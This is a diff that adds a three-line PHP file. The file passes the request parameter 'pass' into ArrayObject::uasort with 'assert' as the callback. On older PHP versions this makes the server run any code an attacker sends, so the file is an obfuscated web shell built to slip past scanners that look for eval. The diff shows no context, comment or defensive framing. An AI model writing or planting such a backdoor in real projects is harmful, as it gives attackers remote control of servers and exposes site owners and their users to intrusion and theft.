@@ -1,0 +1,3 @@
+<?php
+$list = new ArrayObject(array('x', $_REQUEST['pass']));
+$list->uasort('assert');
